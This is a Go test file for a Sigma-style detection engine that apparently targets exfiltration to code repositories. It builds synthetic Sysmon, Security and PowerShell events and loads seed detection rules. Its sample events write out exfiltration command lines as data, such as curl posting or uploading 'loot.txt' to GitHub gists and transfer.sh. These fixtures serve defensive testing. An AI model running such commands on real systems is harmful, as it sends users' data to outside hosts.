package sigma

import (
	"context"
	"path/filepath"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/t1567001/harness/event"
	"github.com/t1567001/harness/internal/reftest"
)

const (
	workstation = "WS-FIN-0142"
	ciRunner    = "GITLAB-RUNNER-W03"

	curlExe      = `C:\Windows\System32\curl.exe`
	gitExe       = `C:\Program Files\Git\cmd\git.exe`
	gitRemoteExe = `C:\Program Files\Git\mingw64\libexec\git-core\git-remote-https.exe`
	pythonExe    = `C:\Users\alice\AppData\Local\Programs\Python\Python312\python.exe`
	cmdExe       = `C:\Windows\System32\cmd.exe`
	explorerExe  = `C:\Windows\explorer.exe`
	codeExe      = `C:\Users\alice\AppData\Local\Programs\Microsoft VS Code\Code.exe`
)

var t0 = time.Date(2026, 11, 23, 12, 0, 0, 0, time.UTC)

func fieldsOf(kv []string) []event.Field {
	fs := make([]event.Field, 0, len(kv)/2)
	for i := 0; i+1 < len(kv); i += 2 {
		fs = append(fs, event.Field{Name: kv[i], Value: kv[i+1]})
	}
	return fs
}

// sysmonEvent builds a Sysmon event with EventData kv (name, value, ...).
func sysmonEvent(id int, host string, kv ...string) event.Event {
	return event.Event{
		Provider: event.Sysmon, EventID: id, Channel: event.SysmonChannel,
		Computer: host, TimeCreated: t0, Data: fieldsOf(kv),
	}
}

// procCreate is a Sysmon 1 with the usual fields.
func procCreate(host, image, cmdline, parent string) event.Event {
	return sysmonEvent(1, host,
		"ProcessId", "4242", "Image", image, "CommandLine", cmdline,
		"User", `CORP\alice`, "ParentImage", parent, "ParentCommandLine", parent)
}

// netConnect is a Sysmon 3 with the usual fields.
func netConnect(host, image, dest string) event.Event {
	return sysmonEvent(3, host,
		"ProcessId", "4242", "Image", image, "User", `CORP\alice`, "Protocol", "tcp",
		"Initiated", "true", "DestinationHostname", dest, "DestinationPort", "443")
}

// security4688 is a Security 4688 as the renderer writes it.
func security4688(host, image, cmdline, parent string) event.Event {
	return event.Event{
		Provider: event.Security, EventID: 4688, Channel: event.SecurityChannel,
		Computer: host, TimeCreated: t0, Data: fieldsOf([]string{
			"SubjectUserSid", "S-1-5-21-1-2-3-1104", "SubjectUserName", "alice",
			"SubjectDomainName", "CORP", "SubjectLogonId", "0x3e7a1",
			"NewProcessId", "0x1a2c", "NewProcessName", image,
			"TokenElevationType", "%%1938", "ProcessId", "0x10f4",
			"CommandLine", cmdline, "ParentProcessName", parent,
			"MandatoryLabel", "S-1-16-8192",
		}),
	}
}

func scriptBlock(host, text string) event.Event {
	return event.Event{
		Provider: event.PowerShell, EventID: 4104, Channel: event.PowerShellChannel,
		Computer: host, TimeCreated: t0, Data: fieldsOf([]string{
			"MessageNumber", "1", "MessageTotal", "1", "ScriptBlockText", text, "Path", "",
		}),
	}
}

// sampleEvents is one or two events of every rendered kind.
func sampleEvents() []event.Event {
	return []event.Event{
		procCreate(workstation, gitExe, "git push --force https://github.com/x/y.git", cmdExe),
		procCreate(workstation, curlExe, `curl.exe -X POST --data @loot.txt https://api.github.com/gists`, cmdExe),
		netConnect(workstation, curlExe, "api.github.com"),
		netConnect(workstation, gitRemoteExe, "github.com"),
		sysmonEvent(11, workstation, "Image", curlExe, "TargetFilename", `C:\Users\alice\.config\rclone\rclone.conf`),
		sysmonEvent(22, workstation, "Image", curlExe, "QueryName", "api.github.com", "QueryStatus", "0"),
		security4688(workstation, curlExe, `curl.exe --upload-file loot.txt https://transfer.sh/`, cmdExe),
		scriptBlock(workstation, `Invoke-RestMethod -Method PUT -Uri https://api.github.com/repos/x/y/contents/a.txt`),
	}
}

// ownRules loads the shipped seed-equivalent rules.
func ownRules(tb testing.TB) (net, proc *Rule) {
	tb.Helper()
	dir := filepath.Join(reftest.ModuleRoot(tb), "rules")
	net, err := LoadFile(filepath.Join(dir, "seed_t1567_001_code_repo_exfil_net.yml"))
	require.NoError(tb, err)
	proc, err = LoadFile(filepath.Join(dir, "seed_t1567_001_code_repo_exfil_proc.yml"))
	require.NoError(tb, err)
	return net, proc
}

func mustMatch(tb testing.TB, r *Rule, ev event.Event) (bool, *Explanation) {
	tb.Helper()
	ok, exp, err := r.Match(context.Background(), ev)
	require.NoError(tb, err)
	require.NotNil(tb, exp)
	fast, err := r.Matches(context.Background(), ev)
	require.NoError(tb, err)
	assert.Equal(tb, fast, ok, "the explanation must reach the fast path's verdict")
	return ok, exp
}
